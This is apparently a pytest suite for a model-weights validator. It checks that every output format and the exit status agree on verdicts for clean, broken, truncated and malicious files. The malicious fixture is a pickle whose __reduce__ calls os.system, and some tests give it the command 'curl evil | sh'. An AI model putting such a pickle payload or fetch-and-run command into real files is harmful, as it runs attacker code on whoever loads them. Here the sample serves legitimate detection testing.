"""Every entry point reports the same verdict: the text, each report format, the exit status, and Python."""

from __future__ import annotations

import argparse
import json
import pickle
import struct
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import pytest

import max_weights
from command_line import run
from conftest import safetensors_bytes

STATUS = {"clean": 0, "unknown": 0, "accepted": 0, "faulty": 1, "broken": 3, "needs-trust": 4, "malicious": 5}
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(40)
MALICIOUS = "MW-EX-101"


class Payload:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def call(command: str = "echo") -> bytes:
    return pickle.dumps(Payload(command))


def weights(*names: str, value: float = 1.0) -> bytes:
    return safetensors_bytes({name: ("F32", [2], struct.pack("<2f", value, 2.0)) for name in names})


def files(**content: bytes) -> Callable[[Path], None]:
    """A folder of these files; `__` stands for the dot before the suffix."""

    def write(folder: Path) -> None:
        for name, data in content.items():
            (folder / name.replace("__", ".")).write_bytes(data)

    return write


def shards(where: dict[str, str], **content: bytes) -> Callable[[Path], None]:
    """A set of two shards with an index of their tensors."""

    def write(folder: Path) -> None:
        names = {"one": "model-00001-of-00002.safetensors", "two": "model-00002-of-00002.safetensors"}
        index = {"metadata": {}, "weight_map": {name: names[shard] for name, shard in where.items()}}
        (folder / "model.safetensors.index.json").write_text(json.dumps(index))
        for shard, data in content.items():
            (folder / names.get(shard, "model-00001-of-00003.safetensors")).write_bytes(data)

    return write


class Case(NamedTuple):
    verdict: str
    write: Callable[[Path], None]
    options: tuple[str, ...] = ()
    """Options of the command line; those of Python have the same names."""
    settings: str = ""


SHARDS = {"a": "one", "b": "two"}
CASES = {
    "clean": Case("clean", files(a__safetensors=weights("a"))),
    "notes": Case("clean", files(model__safetensors=weights("a"))),
    "a picture beside weights": Case("clean", files(a__safetensors=weights("a"), a__png=PICTURE)),
    "NaN": Case("faulty", files(a__safetensors=weights("a", value=float("nan")))),
    "whole set": Case("clean", shards(SHARDS, one=weights("a"), two=weights("b"))),
    "missing shard": Case("broken", shards(SHARDS, one=weights("a"))),
    "tensors in each other's shard": Case("broken", shards(SHARDS, one=weights("b"), two=weights("a"))),
    "shard of another model": Case("broken", shards(SHARDS, one=weights("a"), two=weights("x"))),
    "shard that the index does not name": Case(
        "faulty", shards(SHARDS, one=weights("a"), two=weights("b"), three=weights("c"))
    ),
    "unknown file": Case("unknown", files(blob__dat=bytes(range(128, 256)))),
    "picture": Case("unknown", files(a__png=PICTURE)),
    "nothing": Case("unknown", files()),
    "picture named as weights": Case("broken", files(a__safetensors=PICTURE)),
    "text named as a pickle": Case("broken", files(a__pkl=b"Dear reader,\nthis is a letter.\n")),
    "bytes named as a pickle": Case("broken", files(a__joblib=bytes(range(128, 256)))),
    "bytes of no known format": Case("unknown", files(a__bin=bytes(range(128, 256)))),
    "truncated": Case("broken", files(a__safetensors=weights("a")[:-1])),
    "container that is not opened": Case("broken", files(a__7z=b"7z\xbc\xaf\x27\x1c\0\4" + bytes(64))),
    "needs trust": Case("needs-trust", files(a__pkl=pickle.dumps(argparse.Namespace(a=1)))),
    "malicious": Case("malicious", files(a__pkl=call(), b__safetensors=weights("a"))),
    "malicious, left out by an option": Case("accepted", files(a__pkl=call()), ("--ignore=security",)),
    "malicious, not selected": Case("accepted", files(a__pkl=call()), ("--select=MW-VA",)),
    "NaN, not shown": Case("accepted", files(a__safetensors=weights("a", value=float("nan"))), ("--severity=error",)),
    "malicious, ignored by a group": Case(
        "malicious", files(a__pkl=call()), settings='per-path-ignores = { "**" = ["security"] }'
    ),
    "malicious, ignored by its name": Case(
        "accepted", files(a__pkl=call()), settings='per-path-ignores = { "**" = ["security", "MALICIOUS"] }'
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_every_entry_point_says_the_same_verdict(tmp_path: Path, name: str) -> None:
    case = CASES[name]
    folder = tmp_path / "models"
    folder.mkdir()
    case.write(folder)
    out = {form: tmp_path / form for form in ("json", "sarif", "junit", "github", "html")}
    options = ["--level=content", *case.options, *(f"--output={form}={path}" for form, path in out.items())]
    if case.settings:
        (tmp_path / "max-weights.toml").write_text(f"[validate]\n{case.settings.replace('MALICIOUS', rule())}\n")
        options.append(f"--config={tmp_path / 'max-weights.toml'}")
    else:
        options.append("--no-config")
    done = run("validate", folder, *options)
    words, fails = case.verdict.replace("-", " "), STATUS[case.verdict] > 0
    assert done.status == STATUS[case.verdict], done.stdout
    paragraph = done.stdout.rstrip().split("\n\n")[-1]
    assert paragraph.startswith(f"{words}: "), paragraph
    record = json.loads(out["json"].read_text())
    assert (record["answer"], record["fails"]) == (case.verdict, fails)
    suite = ET.parse(out["junit"]).getroot().find("testsuite")
    assert suite is not None
    assert suite.find("system-out").text.startswith(f"{words}: ")
    assert (int(suite.attrib["failures"]) + int(suite.attrib["errors"]) > 0) == fails
    results = json.loads(out["sarif"].read_text())["runs"][0]["results"]
    assert any(result["level"] != "note" for result in results) == fails
    annotations = out["github"].read_text()
    assert any(line.startswith(("::error", "::warning")) for line in annotations.splitlines()) == fails
    assert any(line.startswith(f"{words}: ") for line in annotations.splitlines())
    assert f"{words}: " in out["html"].read_text()
    if "malicious" in name:
        # The verdict is the same for any subset of rules.
        assert {file["answer"] for file in record["files"] if file["path"].endswith(".pkl")} == {"malicious"}
        assert (record["summary"]["answers"]["malicious"], record["summary"]["answers"]["clean"]) in [(1, 0), (1, 1)]
    if not case.settings:
        arguments: dict[str, Any] = dict(option.lstrip("-").split("=") for option in case.options)
        if "select" in arguments:
            arguments["rules"] = arguments.pop("select")
        report = max_weights.validate(folder, level="content", **arguments)
        assert (report.answer, report.ok, bool(report)) == (case.verdict, not fails, not fails)
        assert [file.answer for file in report.files] == [file["answer"] for file in record["files"]]


def rule() -> str:
    """The code of the rule that the payload breaks."""
    from tempfile import TemporaryDirectory

    with TemporaryDirectory() as folder:
        path = Path(folder) / "a.pkl"
        path.write_bytes(call())
        return max_weights.validate(path).findings[0].code


def test_a_baseline_knows_no_other_code_than_it_was_written_for(tmp_path: Path) -> None:
    path, known = tmp_path / "a.pkl", tmp_path / "known.json"
    for trusted in (False, True):
        written = pickle.dumps(argparse.Namespace(a=1)) if trusted else call("echo")
        path.write_bytes(written)
        status = 4 if trusted else 5
        options = () if trusted else ("--accept-malicious",)
        assert run("validate", path, "--write-baseline", known, *options).status == status
        done = run("validate", path, "--baseline", known)
        assert done.status == 0
        assert "\naccepted: 1 file" in done.stdout
        other = pickle.dumps(argparse.Namespace(a=2)) if trusted else call("curl evil | sh")
        assert other != written
        path.write_bytes(other)
        assert run("validate", path, "--baseline", known).status == status, "the same rule, class and place"


def test_code_beside_a_configuration_is_known_only_as_it_was(tmp_path: Path) -> None:
    known = tmp_path / "known.json"
    folder = tmp_path / "model"
    folder.mkdir()
    config: dict[str, Any] = {"auto_map": {"AutoModel": "modeling_x.Model"}}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "modeling_x.py").write_text("class Model: pass\n")
    assert run("validate", folder, "--write-baseline", known).status == 4
    assert run("validate", folder, "--baseline", known).status == 0
    (folder / "config.json").write_text(json.dumps(config | {"a": 1}))
    assert run("validate", folder, "--baseline", known).status == 4


def test_what_is_malicious_enters_a_baseline_only_on_request(tmp_path: Path) -> None:
    path, known = tmp_path / "a.pkl", tmp_path / "known.json"
    path.write_bytes(call())
    done = run("validate", path, "--write-baseline", known)
    assert done.status == 5
    assert "malicious finding not written: --accept-malicious writes" in done.stderr.replace("findings", "finding")
    assert not any(entry["code"].startswith("MW-EX-1") for entry in json.loads(known.read_text())["findings"])
    assert run("validate", path, "--baseline", known).status == 5


STARTS = {
    "png": PICTURE,
    "jpeg": b"\xff\xd8\xff\xe0" + bytes(40),
    "gif": b"GIF89a" + bytes(40),
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(40),
    "wav": b"RIFF\x24\0\0\0WAVEfmt " + bytes(40),
}


@pytest.mark.parametrize("suffix", ["safetensors", "gguf", "bin", "pt", "pkl", "joblib", "npy", "onnx", "h5", "model"])
@pytest.mark.parametrize("start", STARTS.values(), ids=STARTS)
def test_a_picture_or_document_is_no_weights_under_any_name(tmp_path: Path, suffix: str, start: bytes) -> None:
    path = tmp_path / f"a.{suffix}"
    path.write_bytes(start)
    report = max_weights.validate(path)
    assert (report.answer, [finding.rule for finding in report.findings]) == ("broken", ["format.stranger"])


def test_a_file_of_no_known_format_is_broken_where_it_is_given_as_weights(tmp_path: Path) -> None:
    path = tmp_path / "a.bin"
    path.write_bytes(bytes(range(128, 256)))
    assert [(found.rule, found.severity) for found in max_weights.validate(tmp_path).findings] == [
        ("file.not-examined", "note")
    ]
    report = max_weights.validate(path)
    assert (report.answer, [found.rule for found in report.findings]) == ("broken", ["format.unknown"])


@pytest.mark.parametrize("companions", ["a.xml", "model.json", "shared_vocabulary.json", "net.onnx"])
def test_raw_data_of_other_programs_is_no_fault(tmp_path: Path, companions: str) -> None:
    name = "net.bin" if companions.startswith("net") else "a.bin"
    (tmp_path / name).write_bytes(bytes(range(128, 256)))
    (tmp_path / companions).write_text("{}")
    report = max_weights.validate(tmp_path / name)
    assert (report.answer, report.findings) == ("unknown", ())


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("CITATION.bib", "@article{vaswani2017attention,\n  title={Attention}\n}\n"),
        ("paper.tex", "\\section{Introduction}\n"),
        ("prompt.txt", 'Welcome {{ name }}, {"a": 1}\n'),
        ("README.md", "GGUF files of this model: {}\n"),
        ("names.txt", "BZhang, X. and others\n"),
        ("notes.txt", "Rar! is what the archive says\n"),
    ],
)
def test_a_text_is_a_text_whatever_it_begins_with(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / "a.safetensors").write_bytes(weights("a"))
    (tmp_path / name).write_text(text)
    for command in ("validate", "scan", "globals"):
        assert run(command, tmp_path).status == 0, command
    assert {file.kind for file in max_weights.validate(tmp_path / name).files} == {"text"}


def test_standard_input_that_is_no_weights_is_broken() -> None:
    import subprocess

    from command_line import COMMAND, environment

    for data in (PICTURE, b"Not Found\n", bytes(range(128, 256)), b"<!DOCTYPE html><html></html>"):
        done = subprocess.run([*COMMAND, "validate", "-"], input=data, capture_output=True, env=environment())
        assert done.returncode == 3, data


def test_a_report_view_names_the_answer_and_the_call(tmp_path: Path) -> None:
    path = tmp_path / "a.pkl"
    path.write_bytes(call("curl evil | sh"))
    shown = max_weights.validate(path)._repr_html_()
    assert "malicious" in shown
    assert "system(&#x27;curl evil | sh&#x27;)" in shown.replace("&#39;", "&#x27;")
